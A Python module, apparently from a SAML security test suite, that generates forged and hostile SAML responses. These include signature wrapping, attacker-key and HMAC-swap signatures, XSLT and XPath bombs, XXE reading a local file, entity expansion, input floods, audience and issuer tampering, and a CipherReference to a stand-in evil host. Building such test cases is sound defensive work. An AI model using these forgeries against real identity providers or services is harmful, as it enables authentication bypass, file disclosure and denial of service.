"""Forgeries that take more than one edit.

XSW numbers follow Somorovsky and others, "On Breaking SAML" (USENIX Security 2012).
"""

import base64
import hashlib
import hmac
import re
from copy import deepcopy
from datetime import timedelta
from typing import Literal
from urllib.parse import urlsplit

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from reference.attacks.scene import (
    ASSERTION,
    AUDIENCE,
    DS,
    NAME_ID,
    REFERENCE,
    RESPONSE,
    SAML,
    SAMLP,
    SIGNATURE,
    VALUE,
    XENC,
    Craft,
    Edit,
    Scene,
    find,
    remove,
    shift_times,
    twice,
)
from reference.idp.response import encrypt_assertion, sign_element

EVIL = "u-admin@attacker.example"
OTHER_IDP = "https://idp.globex.example"
_MORE = "http://www.w3.org/2001/04/xmldsig-more#"


def at_other_tenant(url: str) -> str:
    """The same address at another tenant's host."""
    return urlsplit(url)._replace(netloc="globex.derma.example").geturl()


# Wrapping


def _evil(element: etree._Element) -> etree._Element:
    """A copy that says what the attacker wants, unsigned and under names of its own."""
    copy = deepcopy(element)
    for each in list(copy.iter()):
        if each.tag == SIGNATURE:
            remove(each)
        elif each.tag in (RESPONSE, ASSERTION):
            each.set("ID", each.get("ID", "") + "e")
    find(copy, NAME_ID).text = EVIL
    return copy


def xsw(number: int, sign: Literal["response", "assertion"]) -> Craft:
    """Signature wrapping around a genuine signature over the response or the assertion."""

    def craft(scene: Scene) -> bytes:
        root = scene.signed(sign)
        assertion, signature = find(root, ASSERTION), find(root, SIGNATURE)
        if number in (1, 2):
            evil_root = _evil(root)
            if sign == "response":
                remove(signature)
            signature = deepcopy(signature)
            find(evil_root, SAML + "Issuer").addnext(signature)
            if number == 1:
                signature.append(root)
            else:
                signature.addprevious(root)
            return etree.tostring(evil_root)

        evil = _evil(assertion)
        if number == 3:
            assertion.addprevious(evil)
        elif number == 4:
            assertion.addprevious(evil)
            evil.append(assertion)
        elif number == 7:
            extensions = etree.Element(SAMLP + "Extensions")
            extensions.append(evil)
            find(root, SAML + "Issuer").addnext(extensions)
        else:
            remove(signature)
            assertion.addprevious(evil)
            find(evil, SAML + "Issuer").addnext(signature)
            if number == 5:
                root.append(assertion)
            elif number == 6:
                signature.append(assertion)
            else:
                etree.SubElement(signature, DS + "Object").append(assertion)
        return etree.tostring(root)

    return craft


def forged_twin(id_attribute: str) -> Edit:
    """A forged assertion before the signed one, under the same ID."""

    def edit(root: etree._Element) -> None:
        assertion = find(root, ASSERTION)
        evil = _evil(assertion)
        del evil.attrib["ID"]
        evil.set(id_attribute, assertion.get("ID", ""))
        assertion.addprevious(evil)

    return edit


def two_assertions(root: etree._Element) -> None:
    assertion = find(root, ASSERTION)
    assertion.addnext(_evil(assertion))


def two_assertions_signed(scene: Scene) -> bytes:
    """Both by the real key: a reader might take the one for the other."""
    root = scene.unsigned()
    two_assertions(root)
    for assertion in root.findall(ASSERTION):
        sign_element(assertion, scene.key)
    return etree.tostring(root)


def plain_beside_encrypted(scene: Scene) -> bytes:
    """A forged assertion in clear beside the genuine one in an envelope."""
    root = scene.signed("assertion")
    assertion = find(root, ASSERTION)
    assertion.addprevious(_evil(assertion))
    encrypt_assertion(assertion, scene.sp_certificate_pem)
    return etree.tostring(root)


def other_namespace(root: etree._Element) -> None:
    """An assertion of SAML 1 in place of one of SAML 2."""
    find(root, ASSERTION).tag = "{urn:oasis:names:tc:SAML:1.0:assertion}Assertion"


def signature_in_subject(root: etree._Element) -> None:
    find(root, SAML + "Subject").append(find(root, SIGNATURE))


# Signatures


def unsigned(scene: Scene) -> bytes:
    return etree.tostring(scene.unsigned())


def foreign_key(sign: Literal["response", "assertion"]) -> Craft:
    """Signed by the attacker, whose certificate and public key stand ready in KeyInfo."""

    def craft(scene: Scene) -> bytes:
        root = scene.unsigned()
        find(root, NAME_ID).text = EVIL
        sign_element(root if sign == "response" else find(root, ASSERTION), scene.foreign)
        key = x509.load_pem_x509_certificate(scene.foreign.certificate_pem).public_key()
        assert isinstance(key, rsa.RSAPublicKey)
        numbers = key.public_numbers()
        value = etree.SubElement(find(root, DS + "KeyInfo"), DS + "KeyValue")
        rsa_value = etree.SubElement(value, DS + "RSAKeyValue")
        for name, number in (("Modulus", numbers.n), ("Exponent", numbers.e)):
            raw = number.to_bytes((number.bit_length() + 7) // 8, "big")
            etree.SubElement(rsa_value, DS + name).text = base64.b64encode(raw).decode()
        return etree.tostring(root)

    return craft


def hmac_swap(scene: Scene) -> bytes:
    """A MAC keyed with what everybody knows: the provider's certificate."""
    root = scene.signed()
    find(root, DS + "SignatureMethod").set("Algorithm", _MORE + "hmac-sha256")
    signed_info = etree.tostring(find(root, DS + "SignedInfo"), method="c14n", exclusive=True)
    mac = hmac.new(scene.key.certificate_pem, signed_info, hashlib.sha256)
    find(root, DS + "SignatureValue").text = base64.b64encode(mac.digest()).decode()
    return etree.tostring(root)


def two_signed_infos(root: etree._Element) -> None:
    """A forged SignedInfo before the signed one: a verifier may check the one and read the other."""
    find(root, DS + "SignedInfo").addprevious(deepcopy(find(root, DS + "SignedInfo")))


def second_reference(root: etree._Element) -> None:
    twice(REFERENCE)(root)


# Programs in a signature. Each burns many seconds where a verifier runs it.

_XSLT = """
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">
<xsl:for-each select="//. | //@*"><xsl:for-each select="//. | //@*"><xsl:for-each select="//. | //@*">
<xsl:for-each select="//. | //@*"><xsl:if test="count(//. | //@*) = 0">x</xsl:if></xsl:for-each>
</xsl:for-each></xsl:for-each></xsl:for-each></xsl:template></xsl:stylesheet>
"""
_STEP = "//. | //@* | //namespace::*"
_XPATH = f"count(({_STEP})[count(({_STEP})[count(({_STEP})[count({_STEP}) > 1]) > 1]) > 1]) > 1"
_XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"


def _transform(root: etree._Element, algorithm: str) -> etree._Element:
    transform = etree.Element(DS + "Transform", Algorithm=algorithm)
    find(root, DS + "Transforms").insert(0, transform)
    return transform


def xslt_bomb(root: etree._Element) -> None:
    _transform(root, _XSLT_TRANSFORM).append(etree.fromstring(_XSLT))


def xpath_bomb(root: etree._Element) -> None:
    transform = _transform(root, "http://www.w3.org/TR/1999/REC-xpath-19991116")
    etree.SubElement(transform, DS + "XPath").text = _XPATH


def xpath2_bomb(root: etree._Element) -> None:
    namespace = "http://www.w3.org/2002/06/xmldsig-filter2"
    transform = _transform(root, namespace)
    etree.SubElement(transform, f"{{{namespace}}}XPath", Filter="intersect").text = f"//.[{_XPATH}]"


# Canonicalization


def relative_namespace(scene: Scene) -> bytes:
    """Canonicalization fails on it, and a verifier that goes on signs off on nothing."""
    document = etree.tostring(scene.signed())
    return re.sub(rb"<((?:[\w-]+:)?Assertion) ", rb'<\1 xmlns:void="1" ', document, count=1)


def inclusive_transform(root: etree._Element) -> None:
    find(root, DS + "Transforms")[1].set("Algorithm", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315")


# Text that two readers see differently


def comment_in(tag: str) -> Edit:
    def edit(root: etree._Element) -> None:
        element = find(root, tag)
        value = element.text or ""
        element.text = value[:3]
        comment = etree.Comment("x")
        comment.tail = value[3:]
        element.append(comment)

    return edit


def element_in(tag: str) -> Edit:
    def edit(root: etree._Element) -> None:
        etree.SubElement(find(root, tag), "{urn:x}x").tail = ".evil.example"

    return edit


def instruction(root: etree._Element) -> None:
    find(root, NAME_ID).append(etree.ProcessingInstruction("x"))


def doctype(declaration: str, encoding: str = "utf-8") -> Craft:
    """A document type in front; its entity `x` stands for the name."""

    def craft(scene: Scene) -> bytes:
        root = scene.signed()
        find(root, NAME_ID).text = "entity-x"
        document = etree.tostring(root, encoding="unicode").replace("entity-x", "&x;")
        head = f'<?xml version="1.0" encoding="{encoding}"?>'
        return f"{head}<!DOCTYPE r {declaration}>{document}".encode(encoding, "xmlcharrefreplace")

    return craft


XXE = '[<!ENTITY x SYSTEM "file:///etc/hostname">]'
EXPANSION = (
    '[<!ENTITY a "aaaaaaaaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {name} "{f"&{below};" * 16}">' for name, below in zip("bcdefgx", "abcdefg", strict=True)
    )
    + "]"
)

# Too much of something


def attribute_flood(root: etree._Element) -> None:
    """Canonicalization and schema checking are quadratic in an element's attributes."""
    value = find(root, VALUE)
    for number in range(8_000):
        value.set(f"a{number}", "")


def namespace_flood(scene: Scene) -> bytes:
    declarations = "".join(f' xmlns:n{number}="urn:n{number}"' for number in range(3_000)).encode()
    document = etree.tostring(scene.signed())
    return re.sub(rb"<((?:[\w-]+:)?Assertion) ", rb"<\1%b " % declarations, document, count=1)


def element_flood(root: etree._Element) -> None:
    statement = find(root, SAML + "AttributeStatement")
    for _ in range(3_000):
        etree.SubElement(statement, SAML + "Attribute", Name="x")


def depth_flood(scene: Scene) -> bytes:
    return b"<a>" * 5_000 + b"</a>" * 5_000


# Meant for somebody else


def no_audience(root: etree._Element) -> None:
    remove(find(root, SAML + "AudienceRestriction"))


def second_audience(root: etree._Element) -> None:
    """Restrictions are joined by "and": the second one excludes us."""
    twice(SAML + "AudienceRestriction")(root)
    audience = find(root, AUDIENCE)
    audience.text = at_other_tenant(audience.text or "")


def issuers(root: etree._Element) -> None:
    for issuer in root.iter(SAML + "Issuer"):
        issuer.text = OTHER_IDP


def issuer_of_assertion(root: etree._Element) -> None:
    find(find(root, ASSERTION), SAML + "Issuer").text = OTHER_IDP


def answering(request_id: str | None) -> Edit:
    """Both the message and the confirmation say so."""

    def edit(root: etree._Element) -> None:
        for element in (root, find(root, SAML + "SubjectConfirmationData")):
            if request_id is None:
                del element.attrib["InResponseTo"]
            else:
                element.set("InResponseTo", request_id)

    return edit


def aged(by: timedelta) -> Edit:
    return lambda root: shift_times(root, -by)


# Encryption


def encrypted_to_stranger(scene: Scene) -> bytes:
    root = scene.signed()
    encrypt_assertion(find(root, ASSERTION), scene.foreign.certificate_pem)
    return etree.tostring(root)


def encrypted_twice(scene: Scene) -> bytes:
    root = etree.fromstring(scene.honest(encrypt=True))
    encrypt_assertion(find(root, SAML + "EncryptedAssertion"), scene.sp_certificate_pem)
    return etree.tostring(root)


def cipher_reference(root: etree._Element) -> None:
    """Ciphertext that is fetched, and transformed by a program, before anything is decrypted."""
    reference = etree.Element(XENC + "CipherReference", URI="https://evil.example/")
    transform = etree.SubElement(etree.SubElement(reference, XENC + "Transforms"), DS + "Transform")
    transform.set("Algorithm", _XSLT_TRANSFORM)
    transform.append(etree.fromstring(_XSLT))
    find(root, XENC + "CipherData")[:] = [reference]


def key_transport_1_5(root: etree._Element) -> None:
    method = find(find(root, XENC + "EncryptedKey"), XENC + "EncryptionMethod")
    method.set("Algorithm", "http://www.w3.org/2001/04/xmlenc#rsa-1_5")


def triple_des(root: etree._Element) -> None:
    find(root, XENC + "EncryptionMethod").set("Algorithm", "http://www.w3.org/2001/04/xmlenc#tripledes-cbc")
